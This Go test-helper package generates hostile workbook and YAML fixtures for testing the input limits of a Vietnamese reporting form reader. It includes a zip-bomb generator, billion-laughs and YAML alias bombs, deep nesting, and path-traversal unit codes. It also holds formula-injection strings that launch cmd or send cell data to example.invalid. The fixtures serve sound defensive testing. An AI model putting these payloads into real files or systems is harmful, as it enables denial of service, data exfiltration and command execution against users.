package hostile

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/xml"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"path"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/vdhv/vdhv/pkg/form"
	"github.com/vdhv/vdhv/pkg/period"
	"github.com/vdhv/vdhv/pkg/units"
)

// Repeat is the content of a zip part: Head, then Chunk N times, then Tail. Chunk is
// compressed once and its compressed bytes are written N times, so a part of several GiB
// costs a few MiB of output and is never held uncompressed.
type Repeat struct {
	Head, Chunk, Tail string
	N                 int
}

// Size is the uncompressed size of the part.
func (r Repeat) Size() uint64 {
	return uint64(len(r.Head)) + uint64(r.N)*uint64(len(r.Chunk)) + uint64(len(r.Tail))
}

// Plain is a part holding s.
func Plain(s string) Repeat { return Repeat{Head: s} }

// deflateChunk compresses b as a self-contained, byte-aligned, non-final run of deflate
// blocks. It refers to nothing before its start, so such runs can be concatenated.
func deflateChunk(b string) ([]byte, error) {
	var buf bytes.Buffer
	fw, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(fw, b); err != nil {
		return nil, err
	}
	if err := fw.Flush(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// writeRepeat adds r to zw as the part name, with a correct CRC and sizes.
func writeRepeat(zw *zip.Writer, name string, r Repeat) error {
	h, err := deflateChunk(r.Head)
	if err != nil {
		return err
	}
	c, err := deflateChunk(r.Chunk)
	if err != nil {
		return err
	}
	tl, err := deflateChunk(r.Tail)
	if err != nil {
		return err
	}
	final := []byte{0x03, 0x00} // an empty final block (fixed Huffman)
	crc := crc32.ChecksumIEEE([]byte(r.Head))
	chunk := []byte(r.Chunk)
	for i := 0; i < r.N; i++ {
		crc = crc32.Update(crc, crc32.IEEETable, chunk)
	}
	crc = crc32.Update(crc, crc32.IEEETable, []byte(r.Tail))
	w, err := zw.CreateRaw(&zip.FileHeader{
		Name: name, Method: zip.Deflate, CRC32: crc,
		CompressedSize64:   uint64(len(h)) + uint64(r.N)*uint64(len(c)) + uint64(len(tl)) + uint64(len(final)),
		UncompressedSize64: r.Size(),
		Modified:           time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC),
	})
	if err != nil {
		return err
	}
	if _, err := w.Write(h); err != nil {
		return err
	}
	for i := 0; i < r.N; i++ {
		if _, err := w.Write(c); err != nil {
			return err
		}
	}
	if _, err := w.Write(tl); err != nil {
		return err
	}
	_, err = w.Write(final)
	return err
}

// WriteZip copies the archive base to w entry by entry, replacing the parts named in repl
// (parts of repl that base lacks are added at the end, in name order), then adds extra
// empty entries named "xl/extra/N.bin". Nothing is held uncompressed.
func WriteZip(w io.Writer, base []byte, repl map[string]Repeat, extra int) error {
	zr, err := zip.NewReader(bytes.NewReader(base), int64(len(base)))
	if err != nil {
		return err
	}
	zw := zip.NewWriter(w)
	done := map[string]bool{}
	for _, f := range zr.File {
		if r, ok := repl[f.Name]; ok {
			if err := writeRepeat(zw, f.Name, r); err != nil {
				return err
			}
			done[f.Name] = true
			continue
		}
		if err := zw.Copy(f); err != nil {
			return err
		}
	}
	var rest []string
	for name := range repl {
		if !done[name] {
			rest = append(rest, name)
		}
	}
	sort.Strings(rest)
	for _, name := range rest {
		if err := writeRepeat(zw, name, repl[name]); err != nil {
			return err
		}
	}
	for i := range extra {
		if _, err := zw.CreateHeader(&zip.FileHeader{Name: "xl/extra/" + strconv.Itoa(i) + ".bin", Method: zip.Store}); err != nil {
			return err
		}
	}
	return zw.Close()
}

// ReadPart returns the content of one part of the archive base.
func ReadPart(base []byte, name string) (string, error) {
	zr, err := zip.NewReader(bytes.NewReader(base), int64(len(base)))
	if err != nil {
		return "", err
	}
	for _, f := range zr.File {
		if f.Name == name {
			rc, err := f.Open()
			if err != nil {
				return "", err
			}
			defer rc.Close()
			b, err := io.ReadAll(io.LimitReader(rc, 64<<20))
			return string(b), err
		}
	}
	return "", fmt.Errorf("no part %s", name)
}

// EditPart returns base with the part name replaced by edit(its content).
func EditPart(base []byte, name string, edit func(string) (string, error)) ([]byte, error) {
	s, err := ReadPart(base, name)
	if err != nil {
		return nil, err
	}
	s, err = edit(s)
	if err != nil {
		return nil, err
	}
	var buf bytes.Buffer
	if err := WriteZip(&buf, base, map[string]Repeat{name: Plain(s)}, 0); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// SheetPart returns the zip part name of the worksheet called sheet in the workbook base
// (as written by excelize: xl/workbook.xml and its relationships).
func SheetPart(base []byte, sheet string) (string, error) {
	wbXML, err := ReadPart(base, "xl/workbook.xml")
	if err != nil {
		return "", err
	}
	relsXML, err := ReadPart(base, "xl/_rels/workbook.xml.rels")
	if err != nil {
		return "", err
	}
	var wb struct {
		Sheets []struct {
			Name string `xml:"name,attr"`
			ID   string `xml:"http://schemas.openxmlformats.org/officeDocument/2006/relationships id,attr"`
		} `xml:"sheets>sheet"`
	}
	if err := xml.Unmarshal([]byte(wbXML), &wb); err != nil {
		return "", err
	}
	var rels struct {
		Rel []struct {
			ID     string `xml:"Id,attr"`
			Target string `xml:"Target,attr"`
		} `xml:"Relationship"`
	}
	if err := xml.Unmarshal([]byte(relsXML), &rels); err != nil {
		return "", err
	}
	for _, s := range wb.Sheets {
		if s.Name != sheet {
			continue
		}
		for _, r := range rels.Rel {
			if r.ID == s.ID {
				if strings.HasPrefix(r.Target, "/") {
					return strings.TrimPrefix(r.Target, "/"), nil
				}
				return path.Join("xl", r.Target), nil
			}
		}
	}
	return "", fmt.Errorf("no sheet %q", sheet)
}

// SplitSheetData splits a worksheet's XML around the end of its <sheetData>: rows inserted
// between the two halves come after the sheet's own rows.
func SplitSheetData(sheetXML string) (before, after string, err error) {
	i := strings.LastIndex(sheetXML, "</sheetData>")
	if i < 0 {
		return "", "", errors.New("no </sheetData>")
	}
	return sheetXML[:i], sheetXML[i:], nil
}

// The quarter all generated submissions report on.
var Quarter = period.Quarter{Year: 2025, Q: 2}

// UnitsYAML returns a hierarchy: the bloc DUK, with the đảng ủy trực thuộc DU-A (which
// reports for its own office too) over n chi bộ A-01…A-nn, and the chi bộ B-01 directly
// under the bloc.
func UnitsYAML(n int) string {
	var b strings.Builder
	b.WriteString("code: DUK\nname: Đảng bộ Khối Thử nghiệm\nkind: khoi\nunits:\n")
	b.WriteString("  - code: DU-A\n    name: Đảng ủy Tổng công ty A\n    kind: dang-uy-truc-thuoc\n    reports: true\n    units:\n")
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "      - { code: %s, name: Chi bộ Công ty A số %d, kind: chi-bo-co-so }\n", UnitCode(i), i)
	}
	b.WriteString("  - { code: B-01, name: Chi bộ Công ty B, kind: chi-bo-co-so }\n")
	return b.String()
}

// UnitCode is the code of the i-th chi bộ under DU-A (1-based).
func UnitCode(i int) string { return fmt.Sprintf("A-%02d", i) }

// Tree parses UnitsYAML(n).
func Tree(n int) (*units.Tree, error) {
	return units.Parse([]byte(UnitsYAML(n)), "units.yaml", units.Options{})
}

// InBlocPartner is the partner of the in-bloc agreement of Filled submissions.
const InBlocPartner = "B-01"

// Texts are the free texts of a filled submission.
type Texts struct {
	Preparer, AgreementNo, PartnerName, Note, Target, Content, Evaluation string
}

// DefaultTexts are ordinary Vietnamese texts; variant makes the content differ.
func DefaultTexts(variant int) Texts {
	return Texts{
		Preparer:    "Nguyễn Văn An " + strconv.Itoa(variant),
		AgreementNo: "12/2025/TTHT-" + strconv.Itoa(variant),
		PartnerName: "Công ty cổ phần Thép Việt",
		Note:        "Ghi chú lần " + strconv.Itoa(variant),
		Target:      "Phòng Kế hoạch",
		Content:     "Kiểm tra việc mua sắm hàng Việt",
		Evaluation:  "Các đơn vị ưu tiên mua hàng sản xuất trong nước.",
	}
}

// Filled returns a valid, filled submission of u for Quarter: an agreement with a partner
// outside the bloc and one with InBlocPartner (unless u is that unit), a purchase, a check, activities and an evaluation, with the texts tx.
// variant changes the figures, so different variants give different files.
func Filled(u *units.Unit, tx Texts, variant int) *form.Submission {
	sub := form.Blank(u, Quarter, false)
	first, _ := period.Calendar.QuarterRange(Quarter)
	sub.Info.Preparer = tx.Preparer
	sub.Info.Phone = "0912345678"
	sub.Info.Email = "van.an@example.vn"
	sub.Info.Prepared = first.AddDate(0, 2, 20)
	code := sub.Info.UnitCode
	sub.Agreements = []form.Agreement{{
		Unit: code, Number: tx.AgreementNo, PartnerName: tx.PartnerName, InBloc: false,
		Role: form.RoleUse, Field: form.EnumField.Values[3], Signed: first.AddDate(0, 0, 10),
		Status: form.StatusNew, Contracts: int64(1 + variant%5), ContractValue: form.Money(1000 * (100 + variant)),
		Delivered: form.Money(500 * (100 + variant)), Note: tx.Note,
	}}
	if code != InBlocPartner {
		// An agreement inside the bloc: its number reaches the reports' registers.
		sub.Agreements = append(sub.Agreements, form.Agreement{
			Unit: code, Number: tx.AgreementNo + "-B", PartnerCode: InBlocPartner, InBloc: true,
			Role: form.RoleSupply, Field: form.EnumField.Values[0], Signed: first.AddDate(0, 0, 20),
			Status: form.StatusNew, Contracts: 1, ContractValue: form.Money(1000 * (10 + variant)),
		})
	}
	sub.Purchases[0].Total = form.Money(1000 * (50 + variant))
	sub.Purchases[0].Domestic = form.Money(1000 * 40)
	sub.Purchases[0].Note = tx.Note
	sub.Checks = []form.Check{{
		Unit: code, Kind: form.EnumCheckKind.Values[0], Start: first.AddDate(0, 1, 0), Target: tx.Target,
		Content: tx.Content, InProgramme: true, Result: form.EnumCheckResult.Values[1], Recs: 2, Remedied: 1, Note: tx.Note,
	}}
	sub.Activities[0].Count = int64(3 + variant)
	sub.Activities[0].Note = tx.Note
	sub.Evaluation = []form.Narrative{{Label: form.EnumEvaluation.Values[0], Text: tx.Evaluation}}
	return sub
}

// Workbook writes sub as a VDHV-01 workbook and applies edit (nil for none) to it with
// excelize.
func Workbook(sub *form.Submission, tree *units.Tree, edit func(f *excelize.File) error) ([]byte, error) {
	var buf bytes.Buffer
	if err := form.Write(&buf, sub, form.WriteOptions{Units: tree}); err != nil {
		return nil, err
	}
	if edit == nil {
		return buf.Bytes(), nil
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		return nil, err
	}
	defer f.Close()
	if err := edit(f); err != nil {
		return nil, err
	}
	var out bytes.Buffer
	if _, err := f.WriteTo(&out); err != nil {
		return nil, err
	}
	return out.Bytes(), nil
}

// DataCell returns the cell of the column headed header in the n-th data row (1-based) of
// a table sheet written by form.Write.
func DataCell(f *excelize.File, sheet, header string, n int) (string, error) {
	rows, err := f.GetRows(sheet)
	if err != nil {
		return "", err
	}
	if len(rows) < form.TableHeaderRow {
		return "", fmt.Errorf("%s: no header row", sheet)
	}
	for i, v := range rows[form.TableHeaderRow-1] {
		if v == header {
			return excelize.CoordinatesToCellName(i+1, form.TableHeaderRow+n)
		}
	}
	return "", fmt.Errorf("%s: no column %q", sheet, header)
}

// LabelCell returns the value cell (column B) of the label in a label/value sheet.
func LabelCell(f *excelize.File, sheet, label string) (string, error) {
	rows, err := f.GetRows(sheet)
	if err != nil {
		return "", err
	}
	for i, r := range rows {
		if len(r) > 0 && strings.TrimRight(r[0], " :*") == label {
			return "B" + strconv.Itoa(i+1), nil
		}
	}
	return "", fmt.Errorf("%s: no label %q", sheet, label)
}

// FixtureUnit is the unit of the committed form fixtures (a chi bộ of Tree(3)).
const FixtureUnit = "A-01"

// FormulaTexts are submitted texts that spreadsheet programs would run as formulas if a
// writer stored them as such (CSV/formula injection).
var FormulaTexts = Texts{
	Preparer:    "@SUM(1+1)*cmd|' /C calc'!A0",
	AgreementNo: "=1+1",
	PartnerName: `=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")`,
	Note:        "+cmd|' /C notepad'!A1",
	Target:      "-2+3",
	Content:     "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
	Evaluation:  "@echo =1+2 -3 +4",
}

// A Fixture is a small hostile workbook built from a valid form, committed to
// testdata/hostile/cli (the name) so that reviewers can open it.
type Fixture struct {
	Name  string
	Build func(tree *units.Tree) ([]byte, error)
}

func fixtureBase(tree *units.Tree, tx Texts, edit func(f *excelize.File) error) ([]byte, error) {
	u := tree.Lookup(FixtureUnit)
	if u == nil {
		return nil, errors.New("no unit " + FixtureUnit)
	}
	return Workbook(Filled(u, tx, 1), tree, edit)
}

// setData sets the n-th data row's cell of the column headed header on a table sheet.
func setData(f *excelize.File, sheet, header string, n int, v any) error {
	ref, err := DataCell(f, sheet, header, n)
	if err != nil {
		return err
	}
	return f.SetCellValue(sheet, ref, v)
}

// sheetEdit returns a builder that edits the XML of one sheet of a valid form.
func sheetEdit(sheet string, edit func(string) (string, error)) func(tree *units.Tree) ([]byte, error) {
	return func(tree *units.Tree) ([]byte, error) {
		base, err := fixtureBase(tree, DefaultTexts(1), nil)
		if err != nil {
			return nil, err
		}
		part, err := SheetPart(base, sheet)
		if err != nil {
			return nil, err
		}
		return EditPart(base, part, edit)
	}
}

const (
	colSigned   = "Ngày ký"
	colNote     = "Ghi chú"
	colTotal    = "Tổng giá trị mua sắm (triệu đồng)"
	colDomestic = "Giá trị hàng sản xuất trong nước (triệu đồng)"
	colInBloc   = "Trong đó: của đơn vị trong Khối (triệu đồng)"
	colPartner  = "Tên đối tác"
)

// Fixtures are the committed form-based hostile workbooks.
func Fixtures() []Fixture {
	edit := func(fn func(f *excelize.File) error) func(tree *units.Tree) ([]byte, error) {
		return func(tree *units.Tree) ([]byte, error) { return fixtureBase(tree, DefaultTexts(1), fn) }
	}
	return []Fixture{
		{"form-hidden-sheet.xlsx", edit(func(f *excelize.File) error {
			return f.SetSheetVisible(form.SheetPurchases, false)
		})},
		{"form-very-hidden-sheet.xlsx", edit(func(f *excelize.File) error {
			return f.SetSheetVisible(form.SheetAgreements, false, true)
		})},
		{"form-merged-data.xlsx", edit(func(f *excelize.File) error {
			a, err := DataCell(f, form.SheetPurchases, colNote, 1)
			if err != nil {
				return err
			}
			b, err := DataCell(f, form.SheetPurchases, colNote, 3)
			if err != nil {
				return err
			}
			return f.MergeCell(form.SheetPurchases, a, b)
		})},
		{"form-date-1899.xlsx", edit(func(f *excelize.File) error {
			if err := setData(f, form.SheetAgreements, colSigned, 1, "31/12/1899"); err != nil {
				return err
			}
			// LibreOffice stores dates before 30/12/1899 as negative serial numbers.
			return setData(f, form.SheetAgreements, "Ngày hết hạn", 1, -365.0)
		})},
		{"form-date-2101.xlsx", edit(func(f *excelize.File) error {
			ref, err := DataCell(f, form.SheetAgreements, colSigned, 1)
			if err != nil {
				return err
			}
			// A date cell: serial number with the column's dd/mm/yyyy format kept.
			return f.SetCellValue(form.SheetAgreements, ref, 73416.0) // 01/01/2101
		})},
		{"form-nan-inf.xlsx", func(tree *units.Tree) ([]byte, error) {
			base, err := fixtureBase(tree, DefaultTexts(1), func(f *excelize.File) error {
				vals := []string{"NaN", "Inf", "+Infinity", "1e309", "∞", "-nan"}
				for i, v := range vals {
					for _, col := range []string{colTotal} {
						if err := setData(f, form.SheetPurchases, col, i+1, v); err != nil {
							return err
						}
					}
				}
				// Row 7: numeric cells whose stored value is NaN / 1e309 (set below in the XML).
				if err := setData(f, form.SheetPurchases, colTotal, 7, 111111); err != nil {
					return err
				}
				return setData(f, form.SheetPurchases, colDomestic, 7, 222222)
			})
			if err != nil {
				return nil, err
			}
			part, err := SheetPart(base, form.SheetPurchases)
			if err != nil {
				return nil, err
			}
			return EditPart(base, part, func(s string) (string, error) {
				if !strings.Contains(s, "<v>111111</v>") || !strings.Contains(s, "<v>222222</v>") {
					return "", errors.New("marker values not found")
				}
				s = strings.Replace(s, "<v>111111</v>", "<v>NaN</v>", 1)
				return strings.Replace(s, "<v>222222</v>", "<v>1e309</v>", 1), nil
			})
		}},
		{"form-rtl-zero-width.xlsx", edit(func(f *excelize.File) error {
			if err := setData(f, form.SheetAgreements, colPartner, 1, "Công ty \u202eTNHH\u202c Thép\u200b Việt\u200f"); err != nil {
				return err
			}
			return setData(f, form.SheetAgreements, colNote, 1, "\u2067ملاحظة\u2069 \ufeffghi chú\u2060")
		})},
		{"form-control-chars.xlsx", func(tree *units.Tree) ([]byte, error) {
			// excelize replaces control characters by U+FFFD; Excel writes them as _xHHHH_
			// escapes in the shared strings, which is what this fixture holds.
			base, err := fixtureBase(tree, DefaultTexts(1), func(f *excelize.File) error {
				if err := setData(f, form.SheetAgreements, colPartner, 1, "CTRL-MARK-1"); err != nil {
					return err
				}
				return setData(f, form.SheetAgreements, colNote, 1, "CTRL-MARK-2")
			})
			if err != nil {
				return nil, err
			}
			return EditPart(base, "xl/sharedStrings.xml", func(s string) (string, error) {
				if !strings.Contains(s, "CTRL-MARK-1") || !strings.Contains(s, "CTRL-MARK-2") {
					return "", errors.New("marker strings not found")
				}
				s = strings.Replace(s, "CTRL-MARK-1", "Công ty_x0001_ Thép_x0007_ Việt_x001B_[31m", 1)
				return strings.Replace(s, "CTRL-MARK-2", "ghi\u007fchú\u0085 _x0000_hết", 1), nil
			})
		}},
		{"form-formula-text.xlsx", func(tree *units.Tree) ([]byte, error) {
			return fixtureBase(tree, FormulaTexts, nil)
		}},
		{"form-unit-path.xlsx", edit(func(f *excelize.File) error {
			ref, err := LabelCell(f, form.SheetInfo, "Mã đơn vị")
			if err != nil {
				return err
			}
			return f.SetCellStr(form.SheetInfo, ref, "../../../etc/passwd")
		})},
		{"form-entity-bomb.xlsx", sheetEdit(form.SheetInfo, func(s string) (string, error) {
			i := strings.Index(s, "<worksheet")
			if i < 0 {
				return "", errors.New("no <worksheet")
			}
			var dtd strings.Builder
			dtd.WriteString(`<!DOCTYPE worksheet [<!ENTITY lol "lol">`)
			prev := "lol"
			for k := 1; k <= 9; k++ {
				name := "lol" + strconv.Itoa(k)
				dtd.WriteString(`<!ENTITY ` + name + ` "` + strings.Repeat("&"+prev+";", 10) + `">`)
				prev = name
			}
			dtd.WriteString("]>")
			s = s[:i] + dtd.String() + s[i:]
			before, after, err := SplitSheetData(s)
			if err != nil {
				return "", err
			}
			return before + `<row r="40"><c r="A40" t="inlineStr"><is><t>&lol9;</t></is></c></row>` + after, nil
		})},
		{"form-deep-nesting.xlsx", sheetEdit(form.SheetInfo, func(s string) (string, error) {
			before, after, err := SplitSheetData(s)
			if err != nil {
				return "", err
			}
			const depth = 100_000
			return before + strings.Repeat("<x>", depth) + strings.Repeat("</x>", depth) + after, nil
		})},
		{"form-malformed-sheet.xlsx", sheetEdit(form.SheetInfo, func(s string) (string, error) {
			before, _, err := SplitSheetData(s)
			if err != nil {
				return "", err
			}
			return before + `<row r="40"><c r="A40" t="inlineStr"><is><t>cut here</t></is></c></row><row r="41"><c r="A41" t="inlineStr"><is><t`, nil
		})},
	}
}

// BadUnitsYAML is a hierarchy whose codes would be unsafe as file names: parent folders,
// absolute paths, separators, Windows device names, hidden or trailing-dot names.
const BadUnitsYAML = `code: DUK
name: Khối
kind: khoi
units:
  - { code: "../x", name: Lên thư mục cha, kind: chi-bo-co-so }
  - { code: "/etc", name: Đường dẫn tuyệt đối, kind: chi-bo-co-so }
  - { code: "a/b", name: Có dấu gạch chéo, kind: chi-bo-co-so }
  - { code: 'a\b', name: Có dấu gạch ngược, kind: chi-bo-co-so }
  - { code: "C:", name: Ổ đĩa, kind: chi-bo-co-so }
  - { code: "CON", name: Tên thiết bị Windows, kind: chi-bo-co-so }
  - { code: "lpt1.txt", name: Tên thiết bị Windows có đuôi, kind: chi-bo-co-so }
  - { code: ".hidden", name: Tệp ẩn, kind: chi-bo-co-so }
  - { code: "x.", name: Dấu chấm cuối, kind: chi-bo-co-so }
  - { code: "..", name: Thư mục cha, kind: chi-bo-co-so }
  - { code: "ok-01", name: Mã hợp lệ, kind: chi-bo-co-so }
`

// BadUnitCodes are the codes of BadUnitsYAML that must be refused, in file order.
var BadUnitCodes = []string{"../x", "/etc", "a/b", `a\b`, "C:", "CON", "lpt1.txt", ".hidden", "x.", ".."}

// A Big is a large hostile workbook generated at test time from a valid form (base), never
// committed: Write streams it, so the generator holds at most a few MiB.
type Big struct {
	Name  string
	Write func(w io.Writer, base []byte) error
}

const mib = 1 << 20

// insertRows returns base with the sheet's rows followed by n× chunk (rows without r
// attributes, which follow the sheet's last row) and head/tail around them.
func insertRows(w io.Writer, base []byte, sheet string, head, chunk, tail string, n int) error {
	part, err := SheetPart(base, sheet)
	if err != nil {
		return err
	}
	s, err := ReadPart(base, part)
	if err != nil {
		return err
	}
	before, after, err := SplitSheetData(s)
	if err != nil {
		return err
	}
	return WriteZip(w, base, map[string]Repeat{part: {Head: before + head, Chunk: chunk, N: n, Tail: tail + after}}, 0)
}

// BigCases are the large hostile workbooks of the issue, each past one reader limit.
func BigCases() []Big {
	return []Big{
		// A zip bomb: 1.1 GiB of blanks inside `Thông tin`'s sheet data, ~1 MiB on disk.
		{"zip-bomb-1gib.xlsx", func(w io.Writer, base []byte) error {
			return insertRows(w, base, form.SheetInfo, "", strings.Repeat(" ", mib), "", 1100)
		}},
		// 1,000,000 data rows of one number each.
		{"rows-1m.xlsx", func(w io.Writer, base []byte) error {
			return insertRows(w, base, form.SheetAgreements, "", strings.Repeat("<row><c><v>1</v></c></row>", 1000), "", 1000)
		}},
		// One row with a number in each of Excel's 16,384 columns.
		{"cols-16384.xlsx", func(w io.Writer, base []byte) error {
			return insertRows(w, base, form.SheetAgreements, "<row>", strings.Repeat("<c><v>1</v></c>", 1024), "</row>", 16)
		}},
		// A 10 MiB cell (inline string).
		{"cell-10mib.xlsx", func(w io.Writer, base []byte) error {
			return insertRows(w, base, form.SheetAgreements, `<row><c t="inlineStr"><is><t>`, strings.Repeat("a", mib), "</t></is></c></row>", 10)
		}},
		// 2,000,000 extra shared strings before the form's own, every string cell renumbered
		// past them: the reader reads the table only as far as the cells need
		// (pkg/xlsxread/sst.go), so strings after the last one used are never looked at
		// and would not be hostile.
		{"shared-strings-2m.xlsx", func(w io.Writer, base []byte) error {
			const extra = 2_000_000
			s, err := ReadPart(base, "xl/sharedStrings.xml")
			if err != nil {
				return err
			}
			i := strings.Index(s, "<si>")
			if i < 0 {
				return errors.New("no <si>")
			}
			repl := map[string]Repeat{"xl/sharedStrings.xml": {
				Head: s[:i], Chunk: strings.Repeat("<si><t>x</t></si>", 100_000), N: extra / 100_000, Tail: s[i:]}}
			zr, err := zip.NewReader(bytes.NewReader(base), int64(len(base)))
			if err != nil {
				return err
			}
			for _, f := range zr.File {
				if !strings.HasPrefix(f.Name, "xl/worksheets/") || !strings.HasSuffix(f.Name, ".xml") {
					continue
				}
				sheet, err := ReadPart(base, f.Name)
				if err != nil {
					return err
				}
				repl[f.Name] = Plain(stringCellIndex.ReplaceAllStringFunc(sheet, func(m string) string {
					sub := stringCellIndex.FindStringSubmatch(m)
					n, _ := strconv.Atoi(sub[2])
					return sub[1] + strconv.Itoa(n+extra) + "</v>"
				}))
			}
			return WriteZip(w, base, repl, 0)
		}},
		// 20,000 zip entries (the reader allows 10,000).
		{"zip-entries-20000.xlsx", func(w io.Writer, base []byte) error {
			return WriteZip(w, base, nil, 20_000)
		}},
	}
}

// stringCellIndex matches a shared-string cell's index.
var stringCellIndex = regexp.MustCompile(`(<c [^>]*t="s"[^>]*><v>)([0-9]+)</v>`)

// BigUnitsYAML are hostile units.yaml files, generated at test time: name → content.
func BigUnitsYAML() map[string]string {
	const head = "code: DUK\nname: Khối\nkind: khoi\n"
	// An alias bomb: 9^9 strings if the aliases were expanded.
	alias := head + "units:\n  - &a {code: A, name: A, kind: chi-bo-co-so}\nx: &l0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
	for i := 1; i <= 8; i++ {
		alias += fmt.Sprintf("x%d: &l%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*l%d,", i-1), 9), ","))
	}
	var deep strings.Builder
	deep.WriteString(head + "units:\n")
	for i := range 1000 {
		ind := strings.Repeat("  ", 2*i+1)
		fmt.Fprintf(&deep, "%s- code: X%d\n%s  name: N\n%s  kind: chi-bo-co-so\n%s  units:\n", ind, i, ind, ind, ind)
	}
	var many strings.Builder
	many.WriteString(head + "units:\n")
	for i := range 100_001 {
		fmt.Fprintf(&many, "  - { code: U%d, name: N, kind: chi-bo-co-so }\n", i)
	}
	return map[string]string{
		"units-alias-bomb.yaml":   alias,
		"units-deep-flow.yaml":    head + "units: " + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + "\n",
		"units-deep-1000.yaml":    deep.String(),
		"units-11mib.yaml":        head + "# " + strings.Repeat("x", 11<<20) + "\n",
		"units-100001-units.yaml": many.String(),
	}
}
